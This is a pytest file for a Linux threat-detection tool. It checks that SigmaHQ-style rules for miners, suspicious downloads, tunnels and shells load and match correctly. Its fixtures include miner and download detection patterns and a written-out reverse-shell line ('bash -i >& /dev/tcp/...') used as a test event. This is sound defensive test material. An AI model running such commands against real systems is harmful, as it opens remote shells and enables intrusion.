"""Rules of other collections, dropped into a folder: they load and work, or say by name why not.

Written anew, in the style of SigmaHQ's rules for Linux: each modifier, field, kind of selection and
header that those had in November 2026 is in one of these. What belongs to other log sources than
processes and connections is refused by the name of the source.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from minerwatch.authoring.lint import lint
from minerwatch.authoring.recordings import Recording, replayed
from minerwatch.detection.matching.matcher import Matcher
from minerwatch.detection.sigma import rulebook
from minerwatch.detection.sigma.rule import LEVEL_SCORES, SkippedRule
from minerwatch.model import FactValue, Maturity, Signal
from tests import shipped

SIGMAHQ_STYLE = {
    "proc_creation_lnx_hidden_parent.yml": """\
title: Download Tool Spawned By A Web Server Worker
id: 4a4f2f1c-59f3-4f1b-8d2e-9be4ea0b2c10
related:
    - id: 0b6de7a5-26ad-4a3c-bd2f-61c1c4a63d11
      type: similar
status: experimental
description: Detects a download tool below a web server's worker, with a raw address as argument
references:
    - https://attack.mitre.org/techniques/T1105/
author: Somebody (Somewhere), Another @another
date: 2024-01-02
modified: 2024-03-04
tags:
    - attack.command-and-control
    - attack.t1105
    - detection.threat-hunting
logsource:
    category: process_creation
    product: linux
detection:
    selection_parent:
        - ParentImage|endswith:
              - '/httpd'
              - '/nginx'
        - ParentCommandLine|contains|all:
              - 'java'
              - 'tomcat'
    selection_tool:
        Image|endswith:
            - '/curl'
            - '/wget'
    selection_address:
        CommandLine|re: 'https?://[0-9]{1,3}(?:\\.[0-9]{1,3}){3}'
    filter_main_health:
        CommandLine|contains: 'http://127.0.0.1'
    filter_optional_user:
        User: 'backup'
        LogonId: 0
    condition: all of selection_* and not 1 of filter_main_* and not 1 of filter_optional_*
falsepositives:
    - Health checks
level: medium
""",
    "net_connection_lnx_tunnel.yml": """\
title: Connection To A Tunnelling Service
id: 9a1d6a64-3a0c-47d4-9c2e-f0f2a0f9d912
status: test
description: Detects connections to the domains of a tunnelling service
references:
    - https://attack.mitre.org/techniques/T1572/
author: Somebody
date: 2024-01-02
tags:
    - attack.command-and-control
    - attack.t1572
logsource:
    category: network_connection
    product: linux
detection:
    selection:
        Initiated: 'true'
        DestinationHostname|endswith: '.tunnel.example.org'
    selection_network:
        DestinationIp|cidr:
            - '198.51.100.0/24'
            - '2001:db8::/32'
        DestinationPort: 443
    condition: 1 of selection*
falsepositives:
    - Legitimate use of the service
level: high
""",
}


def test_rules_as_sigmahq_writes_them_load_unmodified(tmp_path: Path) -> None:
    for name, text in SIGMAHQ_STYLE.items():
        (tmp_path / name).write_text(text)
    book = shipped.with_folder(tmp_path)
    assert book.errors == ()
    own = {rule.path.name: rule for rule in book.rules if rule.path.is_relative_to(tmp_path)}
    process, network = (own[name] for name in SIGMAHQ_STYLE)
    assert (process.signal, process.score) == (Signal.IDENTITY, LEVEL_SCORES["medium"])
    assert (network.signal, network.score) == (Signal.NETWORK, LEVEL_SCORES["high"])
    matcher = Matcher(book.rules)
    fetch: dict[str, FactValue] = {
        "Image": "/usr/bin/curl", "CommandLine": "curl -s http://192.0.2.7/x", "User": "www-data",
        "ParentImage": "/usr/sbin/nginx",
    }  # fmt: skip
    assert process.id in replayed(Recording(1, "", 0, fetch), matcher).rules
    health = {**fetch, "CommandLine": "curl http://192.0.2.7/ http://127.0.0.1/"}
    assert process.id not in replayed(Recording(1, "", 0, health), matcher).rules
    reached: dict[str, FactValue] = {
        "DestinationIp": ("::1", "2001:db8::9"),
        "DestinationPort": "443",
    }
    assert replayed(Recording(1, "", 0, reached), matcher).signals == ("network",)


HEADER = """\
title: A rule of somebody else
id: 3d7ab0c2-1d5c-4a4e-9f6d-7c2b1a0e9f11
status: {status}
description: Written for another program
references:
    - https://attack.mitre.org/techniques/T1496/
author: 'Somebody (Somewhere), @somebody'
date: {date}
tags:
    - attack.impact
    - attack.command_and_control
    - attack.t1496
    - cve.2019-14287
logsource:
    product: linux
    category: {category}
detection:
{detection}
falsepositives:
    - Unknown
level: {level}
"""


def foreign(
    detection: str,
    *,
    category: str = "process_creation",
    status: str = "test",
    level: str = "high",
    date: str = "2021-10-26",
) -> str:
    indented = "\n".join(f"    {line}" for line in detection.strip().splitlines())
    return HEADER.format(
        detection=indented, category=category, status=status, level=level, date=date
    )


Facts = dict[str, FactValue]
PROCESS: dict[str, tuple[str, Facts, Facts]] = {
    "words of miners, some of them in base64": (
        """
selection:
    CommandLine|contains:
        - ' --cpu-priority='
        - '--donate-level=0'
        - ' -o pool.'
        - 'stratum+tcp://'
        # base64: --donate-level=
        - 'LS1kb25hdGUtbGV2ZWw9'
condition: selection
""",
        {"CommandLine": "sh -c echo LS1kb25hdGUtbGV2ZWw9MQ== | base64 -d"},
        {"CommandLine": "./a --donate-level=1"},
    ),
    "all words, and one of some": (
        """
selection:
    Image|endswith: '/sudo'
    CommandLine|contains|all:
        - ' tc '
        - ' eth0 '
    CommandLine|contains:
        - ' qdisc '
        - ' filter '
condition: selection
""",
        {"Image": "/usr/bin/sudo", "CommandLine": "sudo tc qdisc add dev eth0 clsact"},
        {"Image": "/usr/bin/sudo", "CommandLine": "sudo tc -s show dev eth0 root"},
    ),
    "selections by the beginning of their names, and a filter": (
        """
selection_parent:
    - ParentImage|endswith:
          - '/httpd'
          - '/nginx'
    - ParentCommandLine|contains|all:
          - '/bin/java'
          - 'tomcat'
selection_tool:
    Image|endswith: ['/curl', '/wget']
filter_main_health:
    CommandLine|contains: 'http://127.0.0.1'
filter_optional_agents:
    ParentImage|startswith: '/opt/agent/'
condition: all of selection_* and not 1 of filter_main_* and not 1 of filter_optional_*
""",
        {"ParentCommandLine": "/usr/bin/java -cp tomcat x", "Image": "/usr/bin/curl",
         "CommandLine": "curl http://198.51.100.1/a"},
        {"ParentImage": "/usr/sbin/nginx", "Image": "/usr/bin/curl",
         "CommandLine": "curl http://127.0.0.1/"},
    ),
    "one of them, and a regular expression on length": (
        """
select_long:
    Image|endswith: '/file'
    CommandLine|re: '(.){200,}'
select_recursive:
    Image|endswith: '/ls'
    CommandLine|contains: '-R'
condition: 1 of select*
""",
        {"Image": "/usr/bin/file", "CommandLine": "file " + "a " * 200},
        {"Image": "/usr/bin/file", "CommandLine": "file a"},
    ),
    "options at any place of a group": (
        """
selection_img:
    Image|endswith: '/ls'
selection_cli:
    - CommandLine|endswith: ' /'
    - CommandLine|contains: ' / '
selection_inode:
    CommandLine|re: '(?:\\s-[^-\\s]{0,20}i|\\s--inode\\s)'
condition: all of selection_*
""",
        {"Image": "/usr/bin/ls", "CommandLine": "ls -lai /"},
        {"Image": "/usr/bin/ls", "CommandLine": "ls -la /home"},
    ),
    "a program by its path, and who ran it": (
        """
selection:
    User: root
    CurrentDirectory: '/var/opt/agent/tmp'
    CommandLine|contains: '/etc/opt/agent/conf/tmpdir/scx'
    ParentImage|contains: '/python3'
condition: selection
""",
        {
            "User": "root",
            "CurrentDirectory": "/var/opt/agent/tmp",
            "ParentImage": "/usr/bin/python3.11",
            "CommandLine": "/bin/sh /etc/opt/agent/conf/tmpdir/scx1",
        },
        {"User": "alice", "CurrentDirectory": "/var/opt/agent/tmp"},
    ),
    "nothing but exclusions beside one word": (
        """
selection:
    CommandLine|startswith: 'bash -i'
filter_null:
    ParentImage: null
filter_empty:
    ParentImage: ''
filter_tty:
    ParentCommandLine|contains: 'sshd: '
condition: selection and not 1 of filter_*
""",
        {"CommandLine": "bash -i >& /dev/tcp/192.0.2.1/80", "ParentImage": "/usr/bin/python3"},
        {"CommandLine": "bash -i"},
    ),
    "words without a field": (
        "keywords:\n    - 'xmrig'\n    - '*/minerd *'\ncondition: keywords",
        {"CommandLine": "nohup ./xmrig"},
        {"CommandLine": "nohup ./a"},
    ),
    "wildcards, case and dashes": (
        """
selection:
    Image: '*/bin/x?rig'
    CommandLine|cased|contains: 'Pool'
    CommandLine|windash|contains: ' -B '
condition: selection
""",
        {"Image": "/usr/bin/xmrig", "CommandLine": "xmrig Pool /B x"},
        {"Image": "/usr/bin/xmrig", "CommandLine": "xmrig pool -B x"},
    ),
}  # fmt: skip

NETWORK: dict[str, tuple[str, Facts, Facts]] = {
    "pools by name": (
        """
selection:
    DestinationHostname:
        - 'pool.example.org'
        - 'xmr-eu1.example.org'
condition: selection
""",
        {"DestinationHostname": ("db.example.org", "xmr-eu1.example.org")},
        {"DestinationHostname": ("notpool.example.org",)},
    ),
    "ports, and networks of one's own left out": (
        """
selection:
    Initiated: 'true'
    DestinationPort: [888, 4444, 51820]
filter_main_local:
    DestinationIp|cidr:
        - '10.0.0.0/8'
        - '::1/128'
        - 'fc00::/7'
condition: selection and not 1 of filter_main_*
""",
        {"Initiated": True, "DestinationPort": ("4444",), "DestinationIp": ("203.0.113.1",)},
        {"Initiated": True, "DestinationPort": ("4444",), "DestinationIp": ("10.3.0.1",)},
    ),
    "a program that connects, initiated as a truth value": (
        """
selection_img:
    - Image|endswith: ['/bun', '/node']
    - Image|contains: 'python'
selection_other:
    Initiated: true
    DestinationIp: '203.0.113.9'
condition: all of selection_*
""",
        {"Image": "/usr/bin/node", "Initiated": True, "DestinationIp": ("203.0.113.9",)},
        {"Image": "/usr/bin/ruby", "Initiated": True, "DestinationIp": ("203.0.113.9",)},
    ),
    "any but these": (
        ("selection:\n    Image|endswith: '/bin/bash'\nfilter:\n    DestinationIp: ['127.0.0.1']\n"
        "condition: selection and not filter"),
        {"Image": "/bin/bash", "DestinationIp": ("203.0.113.1",)},
        {"Image": "/bin/bash", "DestinationIp": ("127.0.0.1",)},
    ),
}  # fmt: skip
CASES = [
    *(("process_creation", name, *case) for name, case in PROCESS.items()),
    *(("network_connection", name, *case) for name, case in NETWORK.items()),
]


@pytest.mark.parametrize(
    ("category", "detection", "holds_on", "spares"),
    [(category, *case) for category, _, *case in CASES],
    ids=[name for _, name, *_ in CASES],
)
def test_they_load_and_work(
    tmp_path: Path, category: str, detection: str, holds_on: Facts, spares: Facts
) -> None:
    (tmp_path / "rule.yml").write_text(foreign(detection, category=category))
    book = rulebook.load((tmp_path,))
    assert book.errors == ()
    (rule,) = book.rules
    signal = Signal.IDENTITY if category == "process_creation" else Signal.NETWORK
    assert (rule.signal, rule.score) == (signal, LEVEL_SCORES["high"])
    matcher = Matcher(book.rules)
    assert matcher.matches(holds_on)
    assert not matcher.matches(spares)


def test_headers_of_older_years_load(tmp_path: Path) -> None:
    text = foreign("sel:\n    Comm: a\ncondition: sel", date="2021/10/26") + (
        "fields: [Image]\nsimulation:\n    - {type: atomic-red-team, technique: T1496}\n"
        "regression_tests_path: somewhere/info.yml\nmodified: 2022/12/25\n"
    )
    (tmp_path / "rule.yml").write_text(text)
    assert rulebook.load((tmp_path,)).errors == ()


def test_stable_means_something_else_there(tmp_path: Path) -> None:
    """Their authors vouch for few false alarms, not for an action against whoever runs it."""
    detection = "sel:\n    Image|endswith: /doas\ncondition: sel"
    (tmp_path / "rule.yml").write_text(foreign(detection, status="stable", level="critical"))
    (rule,) = rulebook.load((tmp_path,)).rules
    assert rule.maturity is Maturity.TEST
    book = shipped.with_folder(tmp_path)
    facts: Facts = {"Image": "/usr/bin/doas", "CpuCores": 1.0, "CpuFlatness": 0.99}
    outcome = replayed(Recording(1, "", 86_400, facts), Matcher(book.rules))
    assert rule.id in outcome.rules
    assert not outcome.cullable


def test_fields_that_are_not_measured_are_told(tmp_path: Path) -> None:
    detection = "sel:\n    User: root\n    LogonId: 0\n    Hashes|contains: 'md5='\ncondition: sel"
    (tmp_path / "rule.yml").write_text(foreign(detection))
    book = rulebook.load((tmp_path,))
    assert book.errors == ()
    told = [remark.text for remark in lint(book)]
    for name in ("LogonId", "Hashes"):
        assert f"{name} is never measured: conditions on it never hold" in told


SOURCE = "    product: linux\n    category: process_creation"
PLAIN = foreign("sel:\n    Comm: a\ncondition: sel")


@pytest.mark.parametrize(
    ("before", "after", "named"),
    [
        (SOURCE, "    product: linux\n    service: auditd", "service 'auditd'"),
        (SOURCE, "    product: linux\n    service: sshd", "service 'sshd'"),
        (SOURCE, "    product: linux\n    category: file_event", "category 'file_event'"),
        (SOURCE, "    product: windows\n    category: process_creation", "product 'windows'"),
        ("    Comm: a", "    Comm|contains_any: [a]", "modifier 'contains_any'"),
        ("    Comm: a", "    Comm|re: '(?!a)b'", "look-ahead"),
        ("condition: sel", "condition: sel | count() > 3", "aggregations"),
        ("    condition: sel", "    timeframe: 5m\n    condition: sel", "timeframe"),
        ("condition: sel", "condition: selection", "no selection is named 'selection'"),
    ],
)
def test_what_does_not_fit_is_refused_by_its_name(
    tmp_path: Path, before: str, after: str, named: str
) -> None:
    text = PLAIN.replace(before, after)
    assert text != PLAIN
    (tmp_path / "rule.yml").write_text(text)
    (error,) = rulebook.load((tmp_path,)).errors
    assert named in error.reason
    assert error.line > 1


def test_what_its_authors_withdrew_is_left_out(tmp_path: Path) -> None:
    (tmp_path / "rule.yml").write_text(PLAIN.replace("status: test", "status: deprecated"))
    book = rulebook.load((tmp_path,))
    assert (book.rules, book.errors) == ((), ())
    assert [type(file.outcome) for file in book.files.values()] == [SkippedRule]
